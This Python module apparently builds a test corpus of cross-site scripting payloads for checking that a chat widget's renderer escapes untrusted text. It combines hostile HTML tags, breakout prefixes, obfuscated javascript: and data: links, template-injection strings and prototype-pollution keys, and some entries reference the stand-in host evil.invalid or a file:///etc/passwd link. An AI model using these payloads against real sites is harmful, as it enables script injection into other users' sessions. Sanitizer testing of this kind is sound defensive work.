"""Texts that run script wherever somebody forgot to treat them as text. Every script calls ``hit()``."""

from __future__ import annotations

from itertools import product

SCRIPT = "hit()"

_TAGS = (
    "script", "img src=x onerror={s}", "svg onload={s}", "svg/onload={s}", "body onload={s}", "iframe onload={s}",
    "iframe src=javascript:{s}", 'iframe srcdoc="<script>parent.{s}</script>"', "object data=javascript:{s}",
    "embed src=javascript:{s}", "video src=x onerror={s}", "audio src=x onerror={s}", "details open ontoggle={s}",
    "input autofocus onfocus={s}", "select autofocus onfocus={s}", "textarea autofocus onfocus={s}",
    "button autofocus onfocus={s}", "marquee onstart={s}", "a href=javascript:{s}", "form action=javascript:{s}",
    "math href=javascript:{s}", "base href=javascript:{s}//", "link rel=stylesheet href=https://evil.invalid/x.css",
    "meta http-equiv=refresh content=0;url=javascript:{s}", "style onload={s}", "img src=https://evil.invalid/x.png",
    "svg><animate onbegin={s} attributeName=x dur=1s", "svg><set onbegin={s}", "picture><source srcset=x onerror={s}",
    "div style=animation-name:x onanimationstart={s}", "p onpointerenter={s}", "template><script>{s}</script",
    "noscript><p title='</noscript><img src=x onerror={s}>'",
    "math><mtext></form><form><mglyph><style></math><img src=x onerror={s}",
    "svg><style><img src=x onerror={s}>", "table background=javascript:{s}", "isindex action=javascript:{s} type=image",
)  # fmt: skip

_BREAKOUTS = (
    "{t}", '">{t}', "'>{t}", "</div>{t}", "</textarea>{t}", "</title>{t}", "-->{t}", "`{t}`", "**{t}**",
    "\n- {t}", "[x](https://ok.invalid){t}",
)  # fmt: skip

_LINKS = (
    "javascript:{s}", "JaVaScRiPt:{s}", " javascript:{s}", "java\tscript:{s}", "java&#10;script:{s}",
    "&#106;avascript:{s}", "javascript&colon;{s}", "\x01javascript:{s}", "javascript://%0a{s}", "vbscript:{s}",
    "data:text/html,<script>{s}</script>", "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={s}>", "blob:{s}", "file:///etc/passwd", "http://evil.invalid/", "//evil.invalid/",
    "javascript:{s}//https://ok.invalid", "https:javascript:{s}", "mailto:x@y.z%22onclick={s}",
)  # fmt: skip

_MARKDOWN = (
    "[click]({u})", "[click](<{u}>)", "![image]({u})", "<{u}>", "[click][1]\n\n[1]: {u}", '[click]({u} "title")', "{u}",
)  # fmt: skip

_TEMPLATES = (
    "{{constructor.constructor('hit()')()}}", "${hit()}", "#{hit()}", "<%= hit() %>", "{%raw%}hit(){%endraw%}",
    "';hit()//", '";hit()//', "\\u003cscript\\u003ehit()\\u003c/script\\u003e", "%3Cscript%3Ehit()%3C/script%3E",
    "&lt;script&gt;hit()&lt;/script&gt;", "\u2028<script>hit()</script>", "<scr<script>ipt>hit()</scr</script>ipt>",
    "<<SCRIPT>hit();//<</SCRIPT>", "<img/src='x'/onerror='hit()'>", "<IMG SRC=x ONERROR=hit()>",
    "<img src=x onerror\x00=hit()>", "<img src=x:x onerror=hit()", "&lt;img src=x onerror=hit()&gt;",
    '<p class="deep-chat-button deep-chat-suggestion-button">hit()</p>',
    '<deep-chat connect=\'{"url":"//evil.invalid"}\'></deep-chat>',
    '<deep-chat introMessage=\'{"html":"<img src=x onerror=hit()>"}\'></deep-chat>', "__proto__", "constructor",
    "$$\\href{javascript:hit()}{x}$$", "```html\n<img src=x onerror=hit()>\n```", "<!--<img src=x onerror=hit()>-->",
    "<![CDATA[<img src=x onerror=hit()>]]>", "<?xml-stylesheet href=javascript:hit()?>",
    "\u202e<img src=x onerror=hit()>",
)  # fmt: skip


def _tag(pattern: str) -> str:
    return "<script>hit()</script>" if pattern == "script" else f"<{pattern.replace('{s}', SCRIPT)}>"


def payloads() -> list[str]:
    """Distinct payloads: hostile tags in every breakout, hostile links in every Markdown form, and templates."""
    tags = [breakout.replace("{t}", _tag(tag)) for tag, breakout in product(_TAGS, _BREAKOUTS[:5])]
    tags += [breakout.replace("{t}", _tag(tag)) for tag, breakout in product(_TAGS[:6], _BREAKOUTS[5:])]
    links = [form.replace("{u}", link.replace("{s}", SCRIPT)) for link, form in product(_LINKS, _MARKDOWN)]
    return list(dict.fromkeys([*tags, *links, *_TEMPLATES]))
